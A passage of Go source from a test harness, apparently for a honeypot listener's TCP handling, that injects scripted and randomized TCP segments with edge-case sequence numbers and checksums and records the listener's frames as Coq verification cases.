			if k%2 == 1 {
				in.Segs = cut(r, req, 3)
				in.Push = []bool{k%4 == 1, false, true}[:len(in.Segs)]
			}
			ins = append(ins, in)
			k++
		}
	}
	{ // the request's last bytes arrive so that the acknowledgement number wraps to 0 and to 1
		req := []byte("GET /_cat/indices HTTP/1.1\r\nHost: honeypot\r\nUser-Agent: c14\r\n\r\n")
		for d := 0; d < 3; d++ {
			in := RspIn{SIP: [4]byte{10, 9, 1, 200}, SPort: 50000 + d, DPort: 9200, ISN: uint32(int64(1)<<32 - 2 - int64(len(req)) + int64(d))}
			in.Segs, in.Push = one(req)
			ins = append(ins, in)
		}
	}
	// extreme addresses and ports: large and small 16-bit words in the pseudo header / ports
	for i, sip := range [][4]byte{{255, 255, 255, 254}, {1, 0, 0, 1}, {10, 255, 0, 255}} {
		in := RspIn{SIP: sip, SPort: []int{65535, 1, 32768}[i], DPort: []int{80, 9200, 80}[i], ISN: uint32(r.U64()), End: i}
		in.Segs, in.Push = one([]byte("POST /x HTTP/1.0\r\n\r\n"))
		in.Tail = hx.B("body after the answer")
		ins = append(ins, in)
	}
	n := 40
	if o.Tier != "quick" {
		n = 400
	}
	isns := []uint32{0, 1, 0x7fffffff, 0x80000000, 0xfffffffe, 0xffffffff, 0xfffffff0}
	for i := 0; i < n; i++ {
		in := RspIn{SIP: [4]byte{10, byte(r.Range(0, 255)), byte(r.Range(0, 255)), byte(r.Range(1, 254))}, SPort: r.Range(1024, 65535),
			DPort: r.PickInt([]int{80, 9200, 80, 9200, 80, 9200, 23, 443, 139, 445, 1433, 6379}), End: r.Intn(3)}
		if in.SPort == in.DPort {
			in.SPort++
		}
		if r.Chance(1, 2) {
			in.ISN = isns[r.Intn(len(isns))]
		} else {
			in.ISN = uint32(r.U64())
		}
		var stream []byte
		switch {
		case !writingPorts[in.DPort]:
			stream = r.Bytes(r.Range(1, 300))
			if r.Chance(1, 3) {
				stream = genRequest(r)
			}
		case r.Chance(1, 6):
			stream = genRejected(r)
		default:
			stream = genRequest(r)
		}
		if writingPorts[in.DPort] && headVerdict(stream) == "incomplete" {
			stream = append(stream, "\r\n\r\n"...) // never leave the decoder waiting for more
		}
		in.Segs = cut(r, stream, r.Range(1, 5))
		for j := range in.Segs {
			in.Push = append(in.Push, j == len(in.Segs)-1 || r.Chance(1, 3))
		}
		if r.Chance(1, 4) {
			// sequence-number alignment: the stream ends at 2^32-1, 0 or 1
			in.ISN = uint32(int64(1)<<32 - 2 - int64(len(stream)) + int64(r.Range(0, 2)))
		}
		if r.Chance(1, 4) {
			in.Tail = hx.B(r.Bytes(r.Range(1, 200)))
		}
		ins = append(ins, in)
	}
	return ins
}

// steerChecksumZero rewrites the last aligned 16-bit word of data so that the ones'-complement sum
// over pseudo header + TCP header (checksum field zero) + data is 0 mod 0xffff: the checksum the
// listener stores is then 0x0000.
func steerChecksumZero(in RspIn, seq, ack uint32, data []byte) {
	at := (len(data) - 2) &^ 1
	var s uint64
	w := func(hi, lo byte) { s += uint64(hi)<<8 | uint64(lo) }
	w(me[0], me[1])
	w(me[2], me[3])
	w(in.SIP[0], in.SIP[1])
	w(in.SIP[2], in.SIP[3])
	s += 6 + 20 + uint64(len(data))
	s += uint64(in.DPort) + uint64(in.SPort)
	s += uint64(seq>>16) + uint64(seq&0xffff) + uint64(ack>>16) + uint64(ack&0xffff)
	s += 0x5000 | fPSH | fACK
	s += 65535 // window
	for i := 0; i < len(data); i += 2 {
		if i == at {
			continue
		}
		if i+1 < len(data) {
			w(data[i], data[i+1])
		} else {
			w(data[i], 0)
		}
	}
	x := (65535 - s%65535) % 65535
	data[at], data[at+1] = byte(x>>8), byte(x)
}

// contents of a write
func writeContent(r *hx.Rand, kind, n int) []byte {
	b := make([]byte, n)
	switch kind % 5 {
	case 0: // all zero
	case 1:
		for i := range b {
			b[i] = 0xff
		}
	case 2, 4: // random (4: its last word is steered for a zero checksum field)
		copy(b, r.Bytes(n))
	case 3: // 0xffff words alternating with 0x0001: every second addition carries
		for i := range b {
			b[i] = []byte{0xff, 0xff, 0x00, 0x01}[i%4]
		}
	}
	return b
}

// writeLengths: every length 0..64 once, then the pairs around the powers of two, the reply
// length, the MSS and the ring/page size, then random ones
func writeLengths(o hx.Opts, r *hx.Rand) []int {
	var ls []int
	for n := 0; n <= 64; n++ {
		ls = append(ls, n)
	}
	ls = append(ls, 69, 70, 127, 128, 255, 256, 511, 512, 1023, 1024, 1459, 1460, 1461, 4095, 4096)
	extra := 9
	if o.Tier != "quick" {
		extra = 300
	}
	for i := 0; i < extra; i++ {
		switch r.Intn(3) {
		case 0:
			ls = append(ls, r.Range(0, 200))
		case 1:
			ls = append(ls, r.Range(200, 1500))
		default:
			ls = append(ls, r.Range(1500, 4096))
		}
	}
	return ls
}

func writeInputs(o hx.Opts, r *hx.Rand) []RspIn {
	var ins []RspIn
	isns := []uint32{0, 1, 0x7fffffff, 0x80000000, 0xfffffffe, 0xffffffff, 0xfffffff0}
	rounds := 1
	if o.Tier != "quick" {
		rounds = 5 // every length meets every kind of content
	}
	k := 0
	for round := 0; round < rounds; round++ {
		ls := writeLengths(o, r)
		for len(ls) > 0 {
			n := r.Range(1, 6)
			if n > len(ls) {
				n = len(ls)
			}
			in := RspIn{SIP: [4]byte{10, byte(r.Range(0, 255)), byte(r.Range(0, 255)), byte(r.Range(1, 254))}, SPort: r.Range(1024, 60000),
				DPort: r.PickInt([]int{5555, 8081, 31337, 7777, 2222, 1, 65535}), End: k % 3}
			if k%5 == 4 { // decoded, read-only: the decoder goroutine waits in Read like the generic reader
				in.DPort = r.PickInt([]int{23, 6379, 1433, 445, 139})
			}
			if r.Chance(1, 2) {
				in.ISN = isns[r.Intn(len(isns))]
			} else {
				in.ISN = uint32(r.U64())
			}
			for j, l := range ls[:n] {
				kind := k + j + round
				in.Script = append(in.Script, RspOp{Write: true, Data: hx.B(writeContent(r, kind, l)), Ck0: kind%5 == 4,
					Content: []string{"all-zero", "all-0xff", "random", "0xffff-0x0001-words", "random-steered-to-checksum-0x0000"}[kind%5]})
				if r.Chance(1, 3) { // client data in between: not pushed, the handler keeps waiting
					in.Script = append(in.Script, RspOp{Data: hx.B(r.Bytes(r.Range(1, 100)))})
				}
			}
			ls = ls[n:]
			if r.Chance(1, 4) { // the first operation is a client segment
				in.Script = append([]RspOp{{Data: hx.B(r.Bytes(r.Range(1, 60)))}}, in.Script...)
			}
			// a pushed segment (sometimes empty) lets the handler read, close and report
			in.Script = append(in.Script, RspOp{Data: hx.B(r.Bytes(r.PickInt([]int{0, 1, 2, 17, 300}))), Push: true})
			if r.Chance(1, 3) {
				var sent int
				for _, op := range in.Script {
					if !op.Write {
						sent += len(op.Data)
					}
				}
				in.ISN = uint32(int64(1)<<32 - 2 - int64(sent) + int64(r.Range(0, 2)))
			}
			if r.Chance(1, 4) {
				in.Tail = hx.B(r.Bytes(r.Range(1, 200)))
			}
			if k%4 == 0 {
				in.Steer = 150
			}
			if o.Tier != "quick" && k%40 == 0 && round == 0 {
				// a serious attempt at the wrap on the listener's side: 25000 draws of the ISS leave an
				// expected 170 KB to 2^32, which up to 120 writes of 4096 bytes cover
				in.Steer, in.CrossMax = 25000, 120
			}
			ins = append(ins, in)
			k++
		}
	}
	return ins
}

func rspPart(o hx.Opts, r *hx.Rand, only *RspIn) {
	var ins []RspIn
	if only != nil {
		ins = []RspIn{*only}
	} else {
		ins = rspInputs(o, r)
		ins = append(ins, writeInputs(o, r)...)
	}
	dist := map[string]int{}
	var cases []hx.Case
	for i, in := range ins {
		if in.Script == nil && len(in.Push) != len(in.Segs) {
			in.Push = make([]bool, len(in.Segs))
		}
		obs, crash := runRsp(in)
		dist[fmt.Sprintf("dport:%d", in.DPort)]++
		dist[fmt.Sprintf("client-segments:%d", len(in.Segs))]++
		for _, st := range obs.Steps {
			for _, f := range st.Frames {
				if len(f) > 54 {
					dist["emitted-data-segment-payload:"+lenBucket(len(f)-54)]++
					if (len(f)-34)%2 == 1 {
						dist["emitted-odd-length-segments"]++
					} else {
						dist["emitted-even-length-data-segments"]++
					}
				}
			}
			if st.Decoder {
				dist["decoder-ran-to-its-end"]++
			}
			if st.IsWrite {
				n := len(st.Written)
				dist["listener-writes"]++
				dist[fmt.Sprintf("written-length:%s", lenBucket(n))]++
				if n%2 == 1 {
					dist["written-odd-lengths"]++
				} else {
					dist["written-even-lengths"]++
				}
				if len(st.Frames) != 1 {
					dist["writes-not-answered-by-exactly-one-frame"]++
				}
			}
		}
		for _, op := range in.Script {
			if op.Write {
				dist["written-content:"+op.Content]++
			}
		}
		if in.CrossMax > 0 {
			dist["attempts-to-cross-2^32-on-the-listener-side"]++
		}
		if in.Script != nil {
			dist["sessions-with-listener-writes"]++
			if obs.SeqWrapped {
				dist["listener-sequence-numbers-crossed-2^32"]++
			}
			dist["data-segments-with-checksum-field-0x0000"] += obs.Ck0Hit
			if d := int(obs.WrapDist >> 20); in.Steer > 0 && (dist["steered:min-MiB-below-2^32"] == 0 || d+1 < dist["steered:min-MiB-below-2^32"]) {
				dist["steered:min-MiB-below-2^32"] = d + 1 // rounded up
			}
		}
		if len(obs.Reply) > 0 {
			dist["sessions-with-a-reply"]++
		}
		kind := "session"
		if writingPorts[in.DPort] {
			kind = "session-writing-port"
		}
		if in.Script != nil {
			kind = "session-listener-writes"
		}
		cases = append(cases, hx.Case{ID: i, Kind: kind, Input: in, Obs: obs, Crash: crash, Coq: coqRspCase(i, in, obs)})
	}
	hx.Write(o, "C14", "rsp", "From HT Require Import Common.Bytes C14.Model C14.CheckRsp.", "case", cases, dist, nil, 40)
}

func lenBucket(n int) string {
	switch {
	case n <= 64:
		return "0..64"
	case n <= 256:
		return "65..256"
	case n <= 1024:
		return "257..1024"
	case n <= 1461:
		return "1025..1461"
	}
	return "1462..4096"
}
