// C14 harness: injects TCP segments into the real handleTCP (verif hook) and records
// every emitted frame and the generic reader's event.
package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener/canary"
	"verif/harness/hx"
)

const (
	fFIN = 1
	fSYN = 2
	fRST = 4
	fPSH = 8
	fACK = 16
)

type Seg struct {
	SIP     [4]byte `json:"sip"`
	DIP     [4]byte `json:"dip"`
	SPort   int     `json:"sport"`
	DPort   int     `json:"dport"`
	Seq     uint32  `json:"seq"`
	Ack     uint32  `json:"ack"`
	Flags   int     `json:"flags"`
	Payload hx.B    `json:"payload"`
	Pad     bool    `json:"pad,omitempty"` // the frame is zero-padded to the 60-byte Ethernet minimum
}

type Ev struct {
	SIP     string `json:"sip"`
	DIP     string `json:"dip"`
	SPort   int    `json:"sport"`
	DPort   int    `json:"dport"`
	Payload hx.B   `json:"payload"`
}

type Step struct {
	Kind   string  `json:"kind"` // seg | reader
	Seg    *Seg    `json:"seg,omitempty"`
	Fresh  [3]uint `json:"fresh,omitempty"` // key, iss, ipid (when the segment created a State)
	Key    uint    `json:"key,omitempty"`
	Frames []hx.B  `json:"frames"`
	Ev     *Ev     `json:"ev,omitempty"`
}

func ipsum(b []byte) uint16 {
	var s uint32
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	for s>>16 != 0 {
		s = (s & 0xffff) + (s >> 16)
	}
	return ^uint16(s)
}

func macOf(ip [4]byte) net.HardwareAddr { return net.HardwareAddr{2, 0, ip[0], ip[1], ip[2], ip[3]} }

func buildFrame(s Seg) []byte {
	tcp := make([]byte, 20+len(s.Payload))
	binary.BigEndian.PutUint16(tcp[0:], uint16(s.SPort))
	binary.BigEndian.PutUint16(tcp[2:], uint16(s.DPort))
	binary.BigEndian.PutUint32(tcp[4:], s.Seq)
	binary.BigEndian.PutUint32(tcp[8:], s.Ack)
	tcp[12] = 5 << 4
	tcp[13] = byte(s.Flags)
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	copy(tcp[20:], s.Payload)
	pseudo := append([]byte{}, s.SIP[:]...)
	pseudo = append(pseudo, s.DIP[:]...)
	pseudo = append(pseudo, 0, 6, byte(len(tcp)>>8), byte(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], ipsum(append(pseudo, tcp...)))
	iph := make([]byte, 20)
	iph[0] = 0x45
	binary.BigEndian.PutUint16(iph[2:], uint16(20+len(tcp)))
	binary.BigEndian.PutUint16(iph[4:], 0x1234)
	iph[8] = 64
	iph[9] = 6
	copy(iph[12:], s.SIP[:])
	copy(iph[16:], s.DIP[:])
	binary.BigEndian.PutUint16(iph[10:], ipsum(iph))
	eth := make([]byte, 14)
	copy(eth[6:], macOf(s.SIP))
	eth[12] = 8
	fr := append(eth, iph...)
	fr = append(fr, tcp...)
	if s.Pad {
		for len(fr) < 60 {
			fr = append(fr, 0)
		}
	}
	return fr
}

type capture struct {
	mu  sync.Mutex
	evs []event.Event
}

func (c *capture) Send(e event.Event) { c.mu.Lock(); c.evs = append(c.evs, e); c.mu.Unlock() }
func (c *capture) take() []event.Event {
	c.mu.Lock()
	defer c.mu.Unlock()
	e := c.evs
	c.evs = nil
	return e
}

// one scripted client connection
type client struct {
	sip          [4]byte
	sport, dport int
	isn          uint32
	segs         []hx.B // data segments
	pshLast      bool
	badAck       bool
	rstEarly     bool
	phase        int
	sent         uint32 // bytes sent
	srvSeq       uint32 // next expected server sequence number (for our ack field)
	key          uint
	established  bool
	readerDone   bool
	idx          int
	finSent      bool
	steer        bool
	steerDone    bool
	rstLate      bool
	crossFin     bool // the client's FIN crosses the listener's: it does not acknowledge that FIN
	ackFinFirst  bool // the client acknowledges the listener's FIN with a bare ACK before sending its own
	finWithData  bool // the FIN rides on the last data segment
	srvFinSeen   bool
	ackedSrvFin  bool
	pshFirst     bool // the first data segment is pushed too: the reader runs (and closes) while data is still coming
	routed       bool // the peer has no ARP entry: it is reached through the first route that contains it
	padded       bool // its frames are zero-padded to the Ethernet minimum, as a real NIC sends them
	dataOnAck    bool // the ACK that completes the handshake already carries the first data segment
	hsAck        bool // the handshake-completing ACK has been sent
}

var me = [4]byte{127, 0, 0, 1}
var decoded = map[int]bool{23: true, 80: true, 443: true, 139: true, 445: true, 1433: true, 6379: true, 9200: true}

func (c *client) seg(flags int, payload []byte) Seg {
	return Seg{SIP: c.sip, DIP: me, SPort: c.sport, DPort: c.dport, Seq: c.isn + 1 + c.sent, Ack: c.srvSeq, Flags: flags, Payload: payload, Pad: c.padded}
}

// next returns the next segment of the script (nil when finished)
func (c *client) next() *Seg {
	switch c.phase {
	case 0:
		c.phase = 1
		s := Seg{SIP: c.sip, DIP: me, SPort: c.sport, DPort: c.dport, Seq: c.isn, Flags: fSYN, Pad: c.padded}
		return &s
	case 1:
		c.phase = 2
		if decoded[c.dport] {
			c.phase = 99 // decoded ports: handshake opening only (their decoders are not modelled)
			return nil
		}
		if c.rstEarly {
			c.phase = 99
			s := c.seg(fRST, nil)
			return &s
		}
		s := c.seg(fACK, nil)
		if c.badAck {
			s.Ack = c.srvSeq + 7
			c.phase = 99
			return &s
		}
		c.hsAck = true
		if c.dataOnAck && len(c.segs) > 0 && !c.steer {
			// always pushed: whether the reader goroutine, started by this very segment, finds
			// unpushed data already in the ring or blocks first is a scheduling race inside the
			// listener (both outcomes are the same once the data is pushed)
			p := c.segs[0]
			fl := fACK | fPSH
			s = c.seg(fl, p)
			c.sent += uint32(len(p))
			c.idx = 1
		}
		return &s
	case 2:
		if c.idx < len(c.segs) && c.ackFinFirst && c.srvFinSeen && !c.ackedSrvFin {
			// the listener has closed already (its reader ran): acknowledge that FIN on its own
			// before the remaining data (whose last segment may carry the client's FIN)
			c.ackedSrvFin = true
			s := c.seg(fACK, nil)
			return &s
		}
		if c.idx < len(c.segs) {
			p := c.segs[c.idx]
			// checksum steering: re-cut the remaining data so that the next segment ends where
			// the listener's ACK needs a second carry when its TCP checksum sum is folded
			// (the acknowledgement number is the only field the client controls); otherwise
			// send a full-size filler segment and look again from there
			if c.steer && c.established && !c.steerDone {
				var rest []byte
				for _, q := range c.segs[c.idx:] {
					rest = append(rest, q...)
				}
				win := len(rest)
				if win > 1460 {
					win = 1460
				}
				L := 0
				for l := 1; l <= win; l++ {
					if ackNeedsDoubleCarry(c, uint32(l)) {
						L = l
						break
					}
				}
				if L > 0 {
					steered++
					c.steerDone = true
				} else {
					L = win
				}
				c.segs = c.segs[:c.idx]
				c.segs = append(c.segs, hx.B(rest[:L]))
				for off := L; off < len(rest); off += 1460 {
					end := off + 1460
					if end > len(rest) {
						end = len(rest)
					}
					c.segs = append(c.segs, hx.B(rest[off:end]))
				}
				p = c.segs[c.idx]
			}
			fl := fACK
			if c.pshLast && c.idx == len(c.segs)-1 {
				fl |= fPSH
			}
			if c.pshFirst && c.idx == 0 {
				fl |= fPSH
			}
			if c.finWithData && c.idx == len(c.segs)-1 {
				fl |= fFIN
			}
			s := c.seg(fl, p)
			c.sent += uint32(len(p))
			c.idx++
			if fl&fFIN != 0 {
				c.finSent = true
				c.phase = 4
			}
			return &s
		}
		c.phase = 3
		fallthrough
	case 3:
		if c.ackFinFirst && c.srvFinSeen && !c.ackedSrvFin {
			c.ackedSrvFin = true
			s := c.seg(fACK, nil)
			return &s
		}
		c.phase = 4
		s := c.seg(fFIN|fACK, nil)
		c.finSent = true
		return &s
	case 4:
		c.phase = 5
		s := c.seg(fACK, nil)
		s.Seq++ // after our FIN
		return &s
	case 5:
		c.phase = 99
		if !c.rstLate {
			return nil
		}
		// a late RST: in TIME-WAIT / CLOSE-WAIT it removes the State from the table
		s := c.seg(fRST, nil)
		s.Seq++
		return &s
	}
	return nil
}

func parseOut(fr []byte) (flags int, seq, ack uint32, ipid int, ok bool) {
	if len(fr) < 54 {
		return
	}
	return int(fr[47]), binary.BigEndian.Uint32(fr[38:42]), binary.BigEndian.Uint32(fr[42:46]), int(binary.BigEndian.Uint16(fr[18:20])), true
}

var removed, removedWhileOthersActive, steered, samePortPairs int
var eventMissed bool
var lastHops [][2][]byte
var routedPeers int
var wrapAligned int

// the 16-bit one's-complement sum of the ACK the listener will send for a data segment of
// length L needs two carries when folded (a single fold leaves a value above 0xffff)
func ackNeedsDoubleCarry(c *client, L uint32) bool {
	ack := c.isn + 1 + c.sent + L
	seq := c.srvSeq
	var s uint32
	add16 := func(v uint32) { s += v & 0xffff }
	add16(uint32(me[0])<<8 | uint32(me[1]))
	add16(uint32(me[2])<<8 | uint32(me[3]))
	add16(uint32(c.sip[0])<<8 | uint32(c.sip[1]))
	add16(uint32(c.sip[2])<<8 | uint32(c.sip[3]))
	s += 6 + 20
	add16(uint32(c.dport))
	add16(uint32(c.sport))
	add16(seq >> 16)
	add16(seq)
	add16(ack >> 16)
	add16(ack)
	add16(0x5010)
	add16(65535)
	s1 := (s >> 16) + (s & 0xffff)
	return s1 > 0xffff
}

func runCase(r *hx.Rand, nconn int, tier string) ([]Step, string) {
	cap := &capture{}
	var arp canary.ARPCache
	var clients []*client
	isns := []uint32{0, 1, 0x7fffffff, 0x80000000, 0xfffffffe, 0xffffffff, 0xfffffff0}
	ports := []int{5555, 8081, 31337, 1, 65535, 2222, 23, 80, 443, 445, 1433, 6379, 9200, 5555}
	usedTuple := map[string]bool{}
	for i := 0; i < nconn; i++ {
		c := &client{sip: [4]byte{10, 0, byte(r.Range(0, 3)), byte(r.Range(1, 250))}, sport: r.Range(1024, 65535), dport: ports[r.Intn(len(ports))]}
		if r.Chance(1, 4) && i > 0 { // same peer, different port
			c.sip = clients[0].sip
		}
		if c.sport == 22 {
			c.sport = 2200
		}
		samePorts := false
		if i > 0 && r.Chance(1, 3) { // another peer using exactly the port pair of an earlier connection
			o := clients[r.Intn(len(clients))]
			c.sport, c.dport = o.sport, o.dport
			for dup := true; dup; { // a peer of its own: no earlier connection has this 4-tuple
				c.sip = [4]byte{10, 0, byte(r.Range(0, 3)), byte(r.Range(1, 250))}
				dup = false
				for _, e := range clients {
					if e.sip == c.sip {
						dup = true
					}
				}
			}
			samePorts = true
			samePortPairs++
		}
		// never let a port value of one connection equal a port value of another on the same peer:
		// StateTable.Get would confuse them (recorded separately)
		key := fmt.Sprintf("%v", c.sip)
		for !samePorts && (usedTuple[key+strconv.Itoa(c.sport)] || usedTuple[key+strconv.Itoa(c.dport)] || c.sport == c.dport) {
			c.sport = r.Range(1024, 65535)
			c.dport = []int{5555, 8081, 31337, 2222, 7777, 9999}[r.Intn(6)]
		}
		usedTuple[key+strconv.Itoa(c.sport)] = true
		usedTuple[key+strconv.Itoa(c.dport)] = true
		if r.Chance(1, 2) {
			c.isn = isns[r.Intn(len(isns))]
		} else {
			c.isn = uint32(r.U64())
		}
		total := r.PickInt([]int{0, 1, 2, 3, 100, 537, 1460, 2047, 2048, 2049, 3999, 4000})
		nseg := r.Range(1, 8)
		if total == 0 {
			nseg = 0
		}
		data := r.Bytes(total)
		for j := 0; j < nseg && len(data) > 0; j++ {
			k := len(data)
			if j < nseg-1 {
				k = r.Range(1, len(data))
				if k > 1460 {
					k = 1460
				}
			}
			if k > 1460 {
				k = 1460
			}
			c.segs = append(c.segs, hx.B(data[:k]))
			data = data[k:]
		}
		for len(data) > 0 { // remainder in MSS-sized pieces
			k := len(data)
			if k > 1460 {
				k = 1460
			}
			c.segs = append(c.segs, hx.B(data[:k]))
			data = data[k:]
		}
		c.pshLast = r.Chance(2, 3)
		c.badAck = r.Chance(1, 15)
		c.rstEarly = r.Chance(1, 20)
		c.rstLate = r.Chance(1, 2)
		c.crossFin = r.Chance(1, 3)
		c.ackFinFirst = !c.crossFin && r.Chance(1, 2)
		c.finWithData = r.Chance(1, 4)
		c.pshFirst = r.Chance(1, 3)
		c.routed = r.Chance(1, 4)
		c.padded = r.Chance(1, 3)
		c.dataOnAck = r.Chance(1, 4)
		c.steer = r.Chance(1, 2)
		if c.steer {
			var all []byte
			for _, q := range c.segs {
				all = append(all, q...)
			}
			all = append(all, r.Bytes(4000-len(all))...)
			c.segs = nil
			for off := 0; off < len(all); off += 1460 {
				end := off + 1460
				if end > len(all) {
					end = len(all)
				}
				c.segs = append(c.segs, hx.B(all[off:end]))
			}
		}
		if len(c.segs) > 0 && !c.steer && r.Chance(1, 3) {
			// sequence-number alignment: the acknowledgement of the first data segment lands on
			// 2^32-1, 0 or 1
			c.isn = uint32(int64(1)<<32 - 2 - int64(len(c.segs[0])) + int64(r.Range(0, 2)))
			wrapAligned++
		}
		clients = append(clients, c)
		if c.routed {
			for _, e := range clients[:len(clients)-1] {
				if e.sip == c.sip && !e.routed { // one peer, one way to reach it
					c.routed = false
				}
			}
		}
		if !c.routed {
			arp = append(arp, canary.ARPEntry{IP: net.IPv4(c.sip[0], c.sip[1], c.sip[2], c.sip[3]), HardwareAddress: macOf(c.sip), Interface: "lo"})
		}
	}
	// peers without an ARP entry are reached through the FIRST route that contains them: 10.0.0.0/8 via
	// gateway 1, before the default route via gateway 2 (both gateways have ARP entries)
	var routes canary.RouteTable
	lastHops = nil
	gw1, gw2 := [4]byte{10, 254, 0, 1}, [4]byte{10, 254, 0, 2}
	for _, c := range clients {
		if c.routed {
			// an earlier non-routed client of the same address would have put it into the ARP cache
			inARP := false
			for _, e := range clients {
				if e.sip == c.sip && !e.routed {
					inARP = true
				}
			}
			if inARP {
				continue
			}
			lastHops = append(lastHops, [2][]byte{c.sip[:], macOf(gw1)})
			routedPeers++
		}
	}
	if len(lastHops) > 0 {
		arp = append(arp, canary.ARPEntry{IP: net.IPv4(gw1[0], gw1[1], gw1[2], gw1[3]), HardwareAddress: macOf(gw1), Interface: "lo"},
			canary.ARPEntry{IP: net.IPv4(gw2[0], gw2[1], gw2[2], gw2[3]), HardwareAddress: macOf(gw2), Interface: "lo"})
		routes = canary.RouteTable{
			{Interface: "lo", Gateway: net.IPv4(gw1[0], gw1[1], gw1[2], gw1[3]), Destination: net.IPNet{IP: net.IPv4(10, 0, 0, 0).To4(), Mask: net.CIDRMask(8, 32)}},
			{Interface: "lo", Gateway: net.IPv4(gw2[0], gw2[1], gw2[2], gw2[3]), Destination: net.IPNet{IP: net.IPv4(0, 0, 0, 0).To4(), Mask: net.CIDRMask(0, 32)}},
		}
	}
	v, err := canary.NewVerifCanary("lo", arp, routes, cap)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	defer v.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	v.StartKnockDetector(ctx)

	var steps []Step
	nextKey := uint(1)
	active := append([]*client(nil), clients...)
	// schedule bias: in a third of the cases every connection is opened first, then the
	// oldest one is run to completion (and possibly removed) while the others continue
	drainFirst := r.Chance(1, 3)
	for len(active) > 0 {
		ci := r.Intn(len(active))
		if drainFirst {
			allOpen := true
			for i, a := range active {
				if a.phase == 0 {
					allOpen = false
					ci = i
					break
				}
			}
			if allOpen && active[0] == clients[0] && r.Chance(9, 10) {
				ci = 0
			}
		}
		c := active[ci]
		s := c.next()
		if s == nil {
			active = append(active[:ci], active[ci+1:]...)
			continue
		}
		st := Step{Kind: "seg", Seg: s}
		var crash string
		before := v.StateCount()
		func() {
			defer func() {
				if rec := recover(); rec != nil {
					crash = fmt.Sprint("panic in handleTCP: ", rec)
				}
			}()
			v.Inject(buildFrame(*s))
		}()
		if crash != "" {
			steps = append(steps, st)
			return steps, crash
		}
		if v.StateCount() < before {
			removed++
			if len(active) > 1 {
				removedWhileOthersActive++
			}
		}
		expectReader := (c.established || c.hsAck) && !c.readerDone && !decoded[c.dport] && (s.Flags&fPSH != 0 || s.Flags&fFIN != 0)
		var evs []event.Event
		if expectReader {
			// generous: the wait only costs time when the event is really missing, and then once
			// per connection (a loaded machine may keep the reader goroutine waiting for seconds)
			wait := 20 * time.Second
			if eventMissed {
				wait = 2 * time.Second
			}
			deadline := time.Now().Add(wait)
			for time.Now().Before(deadline) {
				evs = append(evs, cap.take()...)
				if len(evs) > 0 {
					break
				}
				time.Sleep(200 * time.Microsecond)
			}
			if len(evs) == 0 {
				eventMissed = true
				c.readerDone = true
			}
		}
		frames := v.DrainTx()
		var readerFrames [][]byte
		if len(evs) > 0 && len(frames) > 0 {
			readerFrames = frames[len(frames)-1:]
			frames = frames[:len(frames)-1]
			c.readerDone = true
		}
		for _, f := range frames {
			st.Frames = append(st.Frames, hx.B(f))
			fl, seq, _, ipid, ok := parseOut(f)
			if !ok {
				continue
			}
			if s.Flags&fSYN != 0 && s.Flags&fACK == 0 && fl == fSYN|fACK {
				c.key = nextKey
				nextKey++
				st.Fresh = [3]uint{c.key, uint(seq - 1), uint(ipid)}
				c.srvSeq = seq + 1
			}
			if fl&fFIN != 0 && !c.crossFin {
				c.srvSeq = seq + 1
				c.srvFinSeen = true
			}
		}
		if s.Flags&fSYN != 0 && st.Fresh[0] == 0 {
			// a State is created even when nothing is sent back; keep keys aligned
			st.Fresh = [3]uint{nextKey, 0, 0}
			nextKey++
		}
		if c.hsAck && !c.established {
			c.established = true
			// let the reader goroutine block in Read: wait for the state "every port handler is
			// parked or has ended" in the runtime's goroutine dump (rsp.go), not for a duration - 2 ms
			// were not always enough on a loaded machine (thorough tier, load 30: 3 of 2251 cases)
			waitAllHandlersParked(20 * time.Second)
		}
		steps = append(steps, st)
		if len(evs) > 0 {
			rs := Step{Kind: "reader", Key: c.key}
			for _, f := range readerFrames {
				rs.Frames = append(rs.Frames, hx.B(f))
				if fl, seq, _, _, ok := parseOut(f); ok && fl&fFIN != 0 && !c.crossFin {
					c.srvSeq = seq + 1
					c.srvFinSeen = true
				}
			}
			e := evs[0]
			m := event.ToMap(e)
			ev := &Ev{SIP: fmt.Sprint(m["source-ip"]), DIP: fmt.Sprint(m["destination-ip"])}
			ev.SPort = toInt(m["source-port"])
			ev.DPort = toInt(m["destination-port"])
			if p, ok := m["payload"].(string); ok {
				ev.Payload = hx.B(p)
			}
			rs.Ev = ev
			steps = append(steps, rs)
			if len(evs) > 1 {
				return steps, "more than one event for one reader wake-up"
			}
		}
	}
	waitAllHandlersParked(20 * time.Second) // nothing more can be sent once every handler waits or has ended
	time.Sleep(2 * time.Millisecond)
	if extra := v.DrainTx(); len(extra) > 0 {
		return steps, fmt.Sprintf("%d unsolicited frames after the script", len(extra))
	}
	return steps, ""
}

func toInt(v interface{}) int {
	switch x := v.(type) {
	case int:
		return x
	case uint16:
		return int(x)
	}
	return -1
}

func coqIP(b [4]byte) string { return hx.CoqBytes(b[:]) }

func coqIPs(s string) string {
	ip := net.ParseIP(s).To4()
	if ip == nil {
		return "(@nil N)"
	}
	return hx.CoqBytes(ip)
}

func coqCase(id int, steps []Step, hops [][2][]byte) string {
	var hs []string
	for _, h := range hops {
		hs = append(hs, fmt.Sprintf("(%s, %s)", hx.CoqBytes(h[0]), hx.CoqBytes(h[1])))
	}
	var ops, obs []string
	for _, st := range steps {
		var fr []string
		for _, f := range st.Frames {
			fr = append(fr, hx.CoqBytes(f))
		}
		ev := "(@None ev)"
		if st.Ev != nil {
			ev = fmt.Sprintf("(Some (mkEv %s %s %s %s %s))", coqIPs(st.Ev.SIP), coqIPs(st.Ev.DIP), hx.CoqZ(int64(st.Ev.SPort)), hx.CoqZ(int64(st.Ev.DPort)), hx.CoqBytes(st.Ev.Payload))
		}
		obs = append(obs, fmt.Sprintf("mkSObs %s %s", hx.CoqList(fr, "bytes"), ev))
		if st.Kind == "seg" {
			s := st.Seg
			ops = append(ops, fmt.Sprintf("OSeg (mkSeg %s %s %s %s %s %s %s %s) (%s, %s, %s)", coqIP(s.SIP), coqIP(s.DIP),
